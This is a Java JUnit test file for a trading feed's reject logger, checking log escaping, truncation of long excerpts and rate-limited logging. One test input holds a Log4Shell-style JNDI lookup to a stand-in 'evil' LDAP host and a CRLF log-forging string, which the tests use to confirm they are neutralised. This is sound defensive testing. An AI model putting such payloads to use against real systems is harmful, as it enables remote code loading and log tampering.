package io.ringtrader.feed;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class RejectLogTest {

    @Test
    void shouldEscapeLineBreaksControlCharactersAndLookups() {
        final byte[] wire = "BTC-USD\r\nFAKE ERROR ${jndi:ldap://evil/x}\u0007".getBytes(StandardCharsets.UTF_8);
        final String safe = RejectLog.escape(wire, 0, wire.length);
        assertThat(safe).doesNotContain("\n", "\r", "${", "\u0007");
        assertThat(safe).isEqualTo("BTC-USD\\r\\nFAKE ERROR $\\{jndi:ldap://evil/x}\\x07");
        assertThat(RejectLog.escape("a\nb${x}")).isEqualTo("a\\nb$\\{x}");
    }

    @Test
    void shouldCutLongExcerpts() {
        final byte[] wire = "x".repeat(10_000).getBytes(StandardCharsets.US_ASCII);
        assertThat(RejectLog.escape(wire, 0, wire.length)).hasSizeLessThan(200).endsWith("...(10000 bytes)");
    }

    @Test
    void shouldCountEveryRejectionButLogAtABoundedRate() {
        final FeedStats stats = new FeedStats();
        final long[] now = {0};
        final RejectLog log = new RejectLog(stats, () -> now[0], 10_000_000_000L);
        final byte[] wire = "junk".getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; i < 1_000; i++) {
            log.reject(RejectReason.MALFORMED_JSON, wire, 0, wire.length);
            now[0] += 20_000_000; // 20 ms apart: 20 s in all
        }
        log.reject(RejectReason.IGNORED_MESSAGE, wire, 0, wire.length);
        assertThat(stats.rejects(RejectReason.MALFORMED_JSON)).isEqualTo(1_000);
        assertThat(stats.rejects(RejectReason.IGNORED_MESSAGE)).isEqualTo(1);
        assertThat(log.linesLogged()).as("one line at 0 s, one at 10 s").isEqualTo(2);
    }
}
